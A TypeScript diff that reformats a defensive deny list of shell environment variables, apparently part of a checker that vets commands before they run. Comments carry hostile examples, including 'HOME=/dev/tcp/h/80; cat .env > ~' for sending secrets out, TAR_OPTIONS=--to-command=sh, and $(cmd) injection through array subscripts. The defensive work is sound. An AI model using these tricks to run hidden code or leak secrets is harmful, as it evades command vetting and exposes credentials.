@@ -13,27 +13,77 @@ export function baseName(name: string): string {
 }
 
 /** Set to anything, these make a command look up, load or run other code. */
-const RISKY = new RegExp(`^(${[
-  // Which program a name runs, and what bash runs by itself.
-  'PATH', 'BASH_CMDS', 'BASH_ALIASES', 'EXECIGNORE', 'BASH_LOADABLES_PATH', 'BASH_ENV', 'ENV', 'PROMPT_COMMAND', 'SHELLOPTS', 'BASHOPTS', 'PS4',
-  // Where `~` points (`HOME=/dev/tcp/h/80; cat .env > ~` opens a connection) and where tools read their configuration (git's ~/.gitconfig can name a pager).
-  'HOME', 'XDG_CONFIG_HOME',
-  // The dynamic linker and interpreters' start-up code.
-  'LD_\\w+', 'DYLD_\\w+', 'NODE_OPTIONS', 'PYTHONPATH', 'PYTHONHOME', 'PYTHONSTARTUP', 'PERL5OPT', 'PERL5LIB', 'PERLLIB', 'RUBYOPT', 'RUBYLIB', 'GCONV_PATH',
-  // Programs tools start.
-  'EDITOR', 'VISUAL', 'LESSOPEN', 'LESSCLOSE', 'SSH_ASKPASS',
-  'GIT_(SSH|SSH_COMMAND|EXTERNAL_DIFF|EDITOR|SEQUENCE_EDITOR|ASKPASS|EXEC_PATH|CONFIG_PARAMETERS|CONFIG_COUNT|CONFIG_KEY_\\d+|CONFIG_VALUE_\\d+|CONFIG|CONFIG_GLOBAL|CONFIG_SYSTEM|TEMPLATE_DIR|PROXY_COMMAND)',
-  // Files tools write: git appends its traces to any path (GIT_TRACE2_EVENT=/workspace/x), and
-  // `git status` rewrites the index GIT_INDEX_FILE names; GIT_DIR and friends point git at another
-  // repository, whose config the wrapper does not see.
-  'GIT_TRACE\\w*', 'GIT_INDEX_FILE', 'GIT_DIR', 'GIT_WORK_TREE', 'GIT_COMMON_DIR', 'GIT_OBJECT_DIRECTORY',
-  'GIT_ALTERNATE_OBJECT_DIRECTORIES', 'GNUPGHOME',
-  // Options read from the environment or from a file it names (TAR_OPTIONS=--to-command=sh,
-  // RIPGREP_CONFIG_PATH=f holding --pre=x, MANOPT=--pager=x, LESS=-ofile writes a log, bat's pager).
-  'TAR_OPTIONS', 'RIPGREP_CONFIG_PATH', 'MANOPT', 'MANPATH', 'MANROFFOPT', 'BAT_\\w+', 'LESS\\w*', 'MORE', 'GREP_OPTIONS',
-  'GZIP', 'BZIP2?', 'XZ_OPT', 'XZ_DEFAULTS', 'AWKPATH', 'AWKLIBPATH', 'NLSPATH', 'TEXTDOMAINDIR', 'FZF_\\w+',
-  'DIFF_OPTIONS',
-].join('|')})$`);
+const RISKY = new RegExp(
+  `^(${[
+    // Which program a name runs, and what bash runs by itself.
+    'PATH',
+    'BASH_CMDS',
+    'BASH_ALIASES',
+    'EXECIGNORE',
+    'BASH_LOADABLES_PATH',
+    'BASH_ENV',
+    'ENV',
+    'PROMPT_COMMAND',
+    'SHELLOPTS',
+    'BASHOPTS',
+    'PS4',
+    // Where `~` points (`HOME=/dev/tcp/h/80; cat .env > ~` opens a connection) and where tools read their configuration (git's ~/.gitconfig can name a pager).
+    'HOME',
+    'XDG_CONFIG_HOME',
+    // The dynamic linker and interpreters' start-up code.
+    'LD_\\w+',
+    'DYLD_\\w+',
+    'NODE_OPTIONS',
+    'PYTHONPATH',
+    'PYTHONHOME',
+    'PYTHONSTARTUP',
+    'PERL5OPT',
+    'PERL5LIB',
+    'PERLLIB',
+    'RUBYOPT',
+    'RUBYLIB',
+    'GCONV_PATH',
+    // Programs tools start.
+    'EDITOR',
+    'VISUAL',
+    'LESSOPEN',
+    'LESSCLOSE',
+    'SSH_ASKPASS',
+    'GIT_(SSH|SSH_COMMAND|EXTERNAL_DIFF|EDITOR|SEQUENCE_EDITOR|ASKPASS|EXEC_PATH|CONFIG_PARAMETERS|CONFIG_COUNT|CONFIG_KEY_\\d+|CONFIG_VALUE_\\d+|CONFIG|CONFIG_GLOBAL|CONFIG_SYSTEM|TEMPLATE_DIR|PROXY_COMMAND)',
+    // Files tools write: git appends its traces to any path (GIT_TRACE2_EVENT=/workspace/x), and
+    // `git status` rewrites the index GIT_INDEX_FILE names; GIT_DIR and friends point git at another
+    // repository, whose config the wrapper does not see.
+    'GIT_TRACE\\w*',
+    'GIT_INDEX_FILE',
+    'GIT_DIR',
+    'GIT_WORK_TREE',
+    'GIT_COMMON_DIR',
+    'GIT_OBJECT_DIRECTORY',
+    'GIT_ALTERNATE_OBJECT_DIRECTORIES',
+    'GNUPGHOME',
+    // Options read from the environment or from a file it names (TAR_OPTIONS=--to-command=sh,
+    // RIPGREP_CONFIG_PATH=f holding --pre=x, MANOPT=--pager=x, LESS=-ofile writes a log, bat's pager).
+    'TAR_OPTIONS',
+    'RIPGREP_CONFIG_PATH',
+    'MANOPT',
+    'MANPATH',
+    'MANROFFOPT',
+    'BAT_\\w+',
+    'LESS\\w*',
+    'MORE',
+    'GREP_OPTIONS',
+    'GZIP',
+    'BZIP2?',
+    'XZ_OPT',
+    'XZ_DEFAULTS',
+    'AWKPATH',
+    'AWKLIBPATH',
+    'NLSPATH',
+    'TEXTDOMAINDIR',
+    'FZF_\\w+',
+    'DIFF_OPTIONS',
+  ].join('|')})$`,
+);
 
 /** Bash evaluates a value assigned to these as arithmetic, which runs `$(…)` in an array subscript (`RANDOM='a[$(cmd)]'`). */
 const ARITHMETIC_ON_ASSIGN = /^(RANDOM|SRANDOM|OPTIND|HISTCMD)$/;
@@ -70,8 +120,10 @@ const PLAIN_NAME = /^[A-Za-z_][A-Za-z0-9_]*(\[(\d+|[@*])\])?$/s;
  */
 export function nameProblem(what: string, w: Word, sets = true): string | undefined {
   if (!w.literal) return `${what}: the variable name ${short(w.value)} is only known at run time`;
-  if (!PLAIN_NAME.test(w.value)) return `${what}: ${short(w.value)} is not a plain variable name (bash evaluates a subscript, which can run commands)`;
-  if (sets && riskyVariable(w.value, ANY_VALUE)) return `${what} sets ${baseName(w.value)}, which changes what later commands run`;
+  if (!PLAIN_NAME.test(w.value))
+    return `${what}: ${short(w.value)} is not a plain variable name (bash evaluates a subscript, which can run commands)`;
+  if (sets && riskyVariable(w.value, ANY_VALUE))
+    return `${what} sets ${baseName(w.value)}, which changes what later commands run`;
   return undefined;
 }
 
